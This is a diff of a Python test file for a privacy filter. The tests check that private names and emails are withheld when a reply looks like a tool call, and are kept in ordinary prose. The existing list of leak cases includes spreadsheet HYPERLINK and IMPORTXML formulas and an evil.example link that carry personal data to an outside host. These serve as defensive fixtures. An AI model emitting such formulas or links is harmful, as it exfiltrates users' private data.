@@ -184,6 +184,13 @@ LEAVING = [
     '{"action": "send", "action_input": {"to": "[EMAIL_2X9P]"}}',
     '{"tool": "send", "toolArgs": {"to": "[EMAIL_2X9P]"}}',
     '{"name": "send", "kwargs": {"to": "[EMAIL_2X9P]"}}',
+    "{name: send, args: {to: [EMAIL_2X9P]}}",
+    "{args: {to: '[EMAIL_2X9P]'}, name: send}",
+    "{tool: send, toolArgs : [ [EMAIL_2X9P] ]}",
+    "{name: send,\n  parameters:\n    {to: [EMAIL_2X9P]}}",
+    "Sure.\ntool_calls:\n- to: [EMAIL_2X9P]",
+    "- tool: send_mail\n  args:\n    to: [EMAIL_2X9P]",
+    "Function: send_mail\nParameters: to=[EMAIL_2X9P]",
     '=HYPERLINK("//e.example/?q="&"[EMAIL_2X9P]")',
     'a;=IF(1,IMPORTXML("x"&"[EMAIL_2X9P]"))',
     "http:evil.example?q=[PERSON_7Q2M]",
@@ -196,7 +203,7 @@ LEAVING = [
 # Of calls whose end no mark tells: nothing after them is put back.
 FOR_GOOD = (
     "TOOL_CALLS", "tool_calls", "tool_use", "functionCall", '"arguments"', '"args"', "<|", "\uff5c", "006d",
-    "action_input", "toolArgs", "kwargs",
+    "action_input", "toolArgs", "kwargs", "{args:", ", args:", "parameters:\n    {",
 )  # fmt: skip
 
 
@@ -208,6 +215,31 @@ def test_nothing_is_put_where_it_would_leave_again(reply: str) -> None:
     assert stream.tally.withheld
     after, _ = whole(f"{reply}\n\nDear [PERSON_LAST_7Q2M]")
     assert after.endswith("O'Neil") or any(mark in reply for mark in FOR_GOOD)
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "Input: the letter of [PERSON_7Q2M], and parameters: see below",
+        "Two things, input: [PERSON_7Q2M]; args: none",
+        "Function: treasurer of the club\nInput: a word with [PERSON_7Q2M]",
+        "Name: Ada\nArguments: [PERSON_7Q2M] says that it rains (input: much)",
+        "Parameters:\n- patient: [PERSON_7Q2M]",
+        "The tool called [PERSON_7Q2M]; its arguments: {none}",
+    ],
+)
+def test_prose_about_arguments_gets_its_values(reply: str) -> None:
+    """Nothing is lost: a word alone makes no tool call."""
+    text, stream = whole(reply)
+    assert NAME in text
+    assert not stream.tally.withheld
+
+
+def test_a_call_without_quotes_gets_no_value_in_json_either() -> None:
+    """Nothing private leaves: where a document was asked for and another form came."""
+    text, stream = whole('{name: "send", args: {to: "[EMAIL_2X9P]"}}', "json")
+    assert "zoe@example.org" not in text
+    assert stream.tally.withheld == ["[EMAIL_2X9P]"]
 
 
 def test_a_tool_call_in_json_gets_no_value_and_its_neighbours_do() -> None:
